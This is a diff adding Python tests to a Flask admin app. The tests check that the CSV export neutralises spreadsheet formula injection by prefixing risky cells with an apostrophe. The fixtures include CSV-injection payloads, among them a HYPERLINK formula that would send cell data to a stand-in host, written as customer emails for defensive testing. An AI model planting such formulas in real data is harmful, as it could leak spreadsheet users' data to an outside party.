@@ -12,7 +12,7 @@ from typing import Any
 from flask import Flask
 from flask.testing import FlaskClient
 
-from blueprints.admin.base import EXPORT_MAX_ROWS, ReadOnlyView
+from blueprints.admin.base import EXPORT_MAX_ROWS, ReadOnlyView, spreadsheet_safe
 from extensions import db
 from models import PaymentStatus
 from tests.factories import make_customer, make_order, make_payment, make_refund
@@ -82,3 +82,33 @@ def test_refunds_filter_by_the_customers_email(app: Flask, admin_client: FlaskCl
     query = "flt1_customer_email_equals=Anna%40example.com"
     exported = admin_client.get(f"/admin/admin_refunds/export/csv/?{query}")
     assert sorted(_ids(exported.get_data(as_text=True))) == anna_ids
+
+
+def test_exported_text_a_customer_wrote_opens_as_text_not_as_a_formula(
+    app: Flask, admin_client: FlaskClient
+) -> None:
+    """OWASP's CSV injection: a cell a spreadsheet would run starts with a `'`."""
+    formulas = [
+        '=HYPERLINK("http://x.example/?"&A1)@x.it',
+        "+1+1@x.it",
+        "-2+3@x.it",
+        "@SUM(1)@x.it",
+    ]
+    with app.app_context():
+        for email in [*formulas, "\tcmd@x.it", "plain@example.com"]:
+            make_customer(email)
+        db.session.commit()
+    exported = admin_client.get("/admin/admin_customers/export/csv/")
+    emails = {row["Email"] for row in csv.DictReader(io.StringIO(exported.get_data(as_text=True)))}
+    assert emails == {*("'" + f for f in formulas), "'\tcmd@x.it", "plain@example.com"}
+
+
+def test_numbers_stay_numbers_and_only_formula_starts_are_neutralised() -> None:
+    assert [spreadsheet_safe(v) for v in ("-12", "+3.50", 7, "=1", "\r=1", "a=1")] == [
+        "-12",
+        "+3.50",
+        7,
+        "'=1",
+        "'\r=1",
+        "a=1",
+    ]
